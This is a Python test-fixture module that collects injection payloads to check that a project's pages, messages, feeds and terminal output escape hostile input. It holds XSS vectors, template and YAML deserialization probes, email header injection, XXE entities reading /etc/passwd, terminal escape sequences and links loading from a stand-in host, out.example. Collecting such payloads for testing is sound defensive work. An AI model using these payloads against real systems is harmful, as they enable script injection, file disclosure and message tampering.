"""What somebody may type, or a page may say, to get a page, message, feed or terminal of ours to do something else.

All that runs anywhere sets `window.ran`, and all that is loaded comes from out.example.
"""

SCRIPT = r"""
<script>window.ran=1</script>
<ScRiPt>window.ran=1</sCrIpT>
<script src=//out.example/a.js></script>
<script src="https://out.example/a.js"></script >
<script>window.ran=1//
<<script>window.ran=1//<</script>
<scr<script>ipt>window.ran=1</scr</script>ipt>
</script><script>window.ran=1</script>
</style><script>window.ran=1</script>
</title><script>window.ran=1</script>
</textarea><script>window.ran=1</script>
</noscript><script>window.ran=1</script>
</template><script>window.ran=1</script>
</select><script>window.ran=1</script>
--><script>window.ran=1</script>
--!><script>window.ran=1</script>
<!--><script>window.ran=1</script>-->
<!-- --!><img src=x onerror=window.ran=1>
<![CDATA[<script>window.ran=1</script>]]>
]]><script>window.ran=1</script>
]]></content><script xmlns="http://www.w3.org/1999/xhtml">window.ran=1</script>
<?xml version="1.0"?><script>window.ran=1</script>
<script type=module>window.ran=1</script>
<script/x>window.ran=1</script>
<script>//</script><b>bold</b>
<noscript><p title="</noscript><img src=x onerror=window.ran=1>">
""".strip().split("\n")

HANDLERS = r"""
<img src=x onerror=window.ran=1>
<img src=x onerror="window.ran=1">
<img/src=x/onerror=window.ran=1>
<IMG SRC=x ONERROR=window.ran=1>
<img src='https://out.example/a.png'>
<img srcset="https://out.example/a.png 1x">
<body onload=window.ran=1>
<body onpageshow=window.ran=1>
<input autofocus onfocus=window.ran=1>
<select autofocus onfocus=window.ran=1>
<textarea autofocus onfocus=window.ran=1>
<details open ontoggle=window.ran=1>
<video src=x onerror=window.ran=1>
<video><source onerror=window.ran=1></video>
<audio src=x onerror=window.ran=1>
<marquee onstart=window.ran=1>
<iframe src="javascript:parent.ran=1"></iframe>
<iframe srcdoc="<script>parent.ran=1</script>"></iframe>
<iframe src=https://out.example/></iframe>
<object data="javascript:window.ran=1"></object>
<object data=https://out.example/></object>
<embed src=https://out.example/>
<applet code=out.example>
<form action=javascript:window.ran=1><input type=submit autofocus></form>
<button formaction=javascript:window.ran=1>press</button>
<isindex action=javascript:window.ran=1 type=image>
<keygen autofocus onfocus=window.ran=1>
<xss onanimationstart=window.ran=1 style="animation:x">
<a href=x onmouseover=window.ran=1>over</a>
<a autofocus tabindex=1 onfocus=window.ran=1>in</a>
<p onpointerenter=window.ran=1>enter</p>
<div contenteditable autofocus onfocus=window.ran=1>write</div>
<dialog open onclose=window.ran=1>
<meta http-equiv=refresh content="0;url=https://out.example/">
<meta http-equiv="refresh" content="0;javascript:window.ran=1">
<base href=https://out.example/>
<link rel=stylesheet href=https://out.example/a.css>
<link rel=prefetch href=https://out.example/>
<link rel=import href=https://out.example/>
<portal src=https://out.example/>
""".strip().split("\n")

ATTRIBUTES = r"""
"><script>window.ran=1</script>
'><script>window.ran=1</script>
"><img src=x onerror=window.ran=1>
'><img src=x onerror=window.ran=1>
" onmouseover="window.ran=1
' onmouseover='window.ran=1
" autofocus onfocus="window.ran=1
" style="background:url(https://out.example/)
` onerror=`window.ran=1
\"><img src=x onerror=window.ran=1>
\" onload=\"window.ran=1
&quot;><img src=x onerror=window.ran=1>
&#34; onmouseover=&#34;window.ran=1
&lt;script&gt;window.ran=1&lt;/script&gt;
&#60;script&#62;window.ran=1&#60;/script&#62;
&#x3c;script>window.ran=1&#x3c;/script>
&amp;lt;script&amp;gt;
+ADw-script+AD4-window.ran=1+ADw-/script+AD4-
%3Cscript%3Ewindow.ran=1%3C/script%3E
＜script＞window.ran=1＜/script＞
<a href="x" title="a>b" onclick=window.ran=1>
x onerror=window.ran=1
/onerror=window.ran=1
""".strip().split("\n")

VECTORS = r"""
<svg onload=window.ran=1>
<svg/onload=window.ran=1>
"><svg onload=window.ran=1>
<svg><script>window.ran=1</script></svg>
<svg><script href="https://out.example/a.js"/></svg>
<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:window.ran=1>
<svg><a xlink:href="javascript:window.ran=1"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='window.ran=1'/>#x"/></svg>
<svg><image href=https://out.example/a.png /></svg>
<svg><foreignObject><iframe src=https://out.example/></foreignObject></svg>
<svg><style><img src=x onerror=window.ran=1></style></svg>
<svg><title><script>window.ran=1</script></title></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>
<math href="javascript:window.ran=1">x</math>
<math><maction actiontype=statusline xlink:href="javascript:window.ran=1">x</maction></math>
<math><annotation-xml encoding="text/html"><script>window.ran=1</script></annotation-xml></math>
<math><mi><!--</mi><img src=x onerror=window.ran=1>-->
""".strip().split("\n")

STYLES = r"""
<style>*{background:url(https://out.example/)}</style>
<style>@import url(https://out.example/a.css);</style>
<style>body{display:none}</style>
</style><style>@import "https://out.example/a.css"
<p style="background:url(https://out.example/)">p</p>
<p style="position:fixed;inset:0;z-index:9">over all</p>
<div style="width:expression(window.ran=1)">
<div style="behavior:url(https://out.example/a.htc)">
<div style="-moz-binding:url(https://out.example/)">
} body { background: url(https://out.example/) } {
*/ body { background: url(https://out.example/) } /*
""".strip().split("\n")

ADDRESSES = r"""
javascript:window.ran=1
JaVaScRiPt:window.ran=1
javascript://example.org/%0awindow.ran=1
javascript:/*--></title></style></script>*/window.ran=1
javascript&colon;window.ran=1
javascript&#58;window.ran=1
java&Tab;script:window.ran=1
&#106;avascript:window.ran=1
%6aavascript:window.ran=1
java%0ascript:window.ran=1
javascript%3Awindow.ran=1
\javascript:window.ran=1
feed:javascript:window.ran=1
view-source:javascript:window.ran=1
vbscript:msgbox(1)
livescript:window.ran=1
data:text/html,<script>window.ran=1</script>
data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=
data:image/svg+xml,<svg onload=window.ran=1>
DATA:text/html;charset=utf-8,%3Cscript%3Ewindow.ran=1%3C/script%3E
file:///etc/passwd
blob:https://out.example/1
filesystem:https://out.example/1
about:blank
intent://out.example/#Intent;scheme=https;end
ms-word:ofe|u|https://out.example/
https://ok.example/"onmouseover="window.ran=1
https://ok.example/'onmouseover='window.ran=1
https://ok.example/><script>window.ran=1</script>
https://ok.example/`onerror=window.ran=1`
https://ok.example/](javascript:window.ran=1)
https://ok.example/)[x](javascript:window.ran=1
https://ok.example/<img src=x onerror=window.ran=1>
https://ok.example/{{7*7}}{%raw%}${7*7}
""".strip().split("\n")

MARKDOWN = r"""
[x](javascript:window.ran=1)
[x](JAVASCRIPT:window.ran=1)
[x](  javascript:window.ran=1 )
[x](<javascript:window.ran=1>)
[x](javascript&colon;window.ran=1)
[x](&#106;avascript:window.ran=1)
[x](java&#9;script:window.ran=1)
[x](data:text/html,<script>window.ran=1</script>)
[x](vbscript:window.ran=1)
[x](https://ok.example/ "onmouseover="window.ran=1")
[x](https://ok.example/ 'a" onmouseover="window.ran=1')
[x](https://ok.example/"onmouseover="window.ran=1)
[x]: javascript:window.ran=1
[x][y] [y]: javascript:window.ran=1
![x](https://out.example/a.png)
![x](javascript:window.ran=1)
![x"onerror="window.ran=1](x)
![<img src=x onerror=window.ran=1>](https://out.example/b.png)
[![x](https://out.example/c.png)](javascript:window.ran=1)
<javascript:window.ran=1>
<https://ok.example/"onmouseover="window.ran=1>
`<script>window.ran=1</script>`
``` </code><script>window.ran=1</script>
*<b>*<img src=x onerror=window.ran=1>*
**[x](javascript:window.ran=1)**
# not a heading #
- not a list
1. not a list
> not a quotation
*** not a rule ***
a | b
\<script>window.ran=1\</script>
~~~ x" onclick="window.ran=1
[x]{onclick=window.ran=1}
{: onclick="window.ran=1"}
{:.x onclick="window.ran=1"} text
{#id onclick="window.ran=1"}
: not a definition
[^1]: <script>window.ran=1</script>
$$<script>window.ran=1</script>$$
""".strip().split("\n")

TEMPLATES = r"""
{{ 7 * 7 }}
{{7*7}}{%7*7%}{#7*7#}
{% raw %}{% endraw %}{{ site.title }}
{% include "../../../etc/passwd" %}
{% import os %}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ config.__class__.__init__.__globals__ }}
{{< readfile "/etc/passwd" >}}
{{% readfile "/etc/passwd" %}}
{{</* x */>}}
{{{ x }}}
${7*7}
#{7*7}
<%= 7*7 %>
<?php echo 7*7; ?>
@{7*7}
{@html x}
{date} {weekday} {__class__}
%(title)s %s %n
{0.__class__} {title!r}
{filename}/etc/passwd |static|x
<!--#include virtual="/etc/passwd" -->
<esi:include src="https://out.example/"/>
""".strip().split("\n")

FRONT_MATTER = (
    "---",
    "--- ---",
    "...",
    "+++",
    "x\n---\ninjected: true",
    "x\r\n---\r\ninjected: true",
    'x"\ninjected: true\ny: "',
    "x'\ninjected: true\ny: '",
    '", injected: true, "x": "',
    '"\ninjected = true\nx = "',
    '"""\ninjected = true\nx = """',
    "'''\ninjected = true\nx = '''",
    "x\n[injected]\ny = 1",
    "key: value",
    "- item",
    "? key",
    "!!python/object/apply:os.system ['true']",
    "!ruby/object:Gem::Installer {}",
    "&anchor *anchor",
    "*alias",
    "<<: *x",
    "x # comment",
    "{injected: true}",
    "[injected]",
    "| \n  block",
    "yes",
    "null",
    "2024-01-01",
    "0x10",
    "\\u0022\ninjected: true",
    "x\u2028injected: true",
    "x\u2029injected: true",
    "x\x85injected: true",
    "%YAML 1.1\n---",
)

HEADERS = (
    "x\r\nBcc: all@out.example",
    "x\nBcc: all@out.example",
    "x\rBcc: all@out.example",
    "x\r\n\r\n<script>window.ran=1</script>",
    "x\r\n Bcc: all@out.example",
    "x\x0bBcc: all@out.example",
    "x\x85Bcc: all@out.example",
    "x\u2028Bcc: all@out.example",
    "=?utf-8?q?x=0D=0ABcc:_all@out.example?=",
    "=?utf-8?b?eA0KQmNjOiBhbGxAb3V0LmV4YW1wbGU=?=",
    "x, all@out.example",
    'x" <all@out.example>, "y',
    "x\r\n.\r\nQUIT",
    "x\r\nContent-Type: text/html\r\n\r\n<b>",
    "x\n--=_boundary--\n",
    "x <all@out.example>;",
)

FEEDS = (
    "]]>",
    "]]>]]&gt;<injected/>",
    "</title><injected/><title>",
    "</content></entry><entry><title>injected</title>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&e; &nbsp; &#0; &#xFFFE;",
    "<?xml-stylesheet href='https://out.example/'?>",
    "<?xml version='1.0'?>",
    '", "injected": true, "x": "',
    '\\", \\"injected\\": true, \\"x\\": \\"',
    "\ufffe\uffff\ufdd0",
)

TERMINAL = (
    "\x1b[41mred",
    "\x1b[2J\x1b[H",
    "\x1b]0;PWNED\x07",
    "\x1b]8;;https://out.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;UFdORUQ=\x07",
    "\x1bP$q\x1b\\",
    "\x1b[6n\x1b[c",
    "\x1b[?1049h",
    "\x1b(0lqk",
    "\x1bc",
    "\x9b41mred",
    "\x9d0;PWNED\x9c",
    "\x90q\x9c",
    "x\ry",
    "x\x08\x08y",
    "x\x07\x00\x7fy",
    "x\x0e\x0fy",
    "x\x0c\x0by",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "\N{LEFT-TO-RIGHT OVERRIDE}x\N{POP DIRECTIONAL FORMATTING}",
    "\N{RIGHT-TO-LEFT ISOLATE}x\N{POP DIRECTIONAL ISOLATE}",
    "\N{RIGHT-TO-LEFT EMBEDDING}x",
    "[red]red[/red]",
    "[bold]bold[/]",
    "[link=https://out.example/]link[/link]",
    "[/red]",
    "[[x]] \\[x]",
    "[@click=app.bell]x[/]",
    ":smile: :warning:",
    "\\x1b[41m \\033[41m \\e[41m ^[[41m",
    "x\nerror: typed by nobody",
)

PAYLOADS: tuple[str, ...] = (
    *SCRIPT, *HANDLERS, *ATTRIBUTES, *VECTORS, *STYLES, *ADDRESSES, *MARKDOWN, *TEMPLATES, *FRONT_MATTER, *HEADERS, *FEEDS,
    *TERMINAL,
)  # fmt: skip
LINKS: tuple[str, ...] = (  # in place of an address, and at its end
    *ADDRESSES,
    "java\tscript:window.ran=1",
    "java\nscript:window.ran=1",
    "\x01javascript:window.ran=1",
    " javascript:window.ran=1",
    "\N{ZERO WIDTH SPACE}javascript:window.ran=1",
    "//out.example/",
    "\\\\out.example\\",
    *(f"https://ok.example/?q={payload}" for payload in PAYLOADS),
    *(f"https://ok.example/{payload}" for payload in TERMINAL),
)


def as_typed(text: str) -> str:
    """Return what is to be read of a line: no control characters, no change of direction, runs of blanks as one."""
    unseen = {*range(0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A)}
    unseen |= {*range(0xFDD0, 0xFDF0), 0xFFFE, 0xFFFF}
    words = "".join(" " if letter.isspace() else letter for letter in text).split()
    return " ".join("".join(letter for letter in word if ord(letter) not in unseen) for word in words)
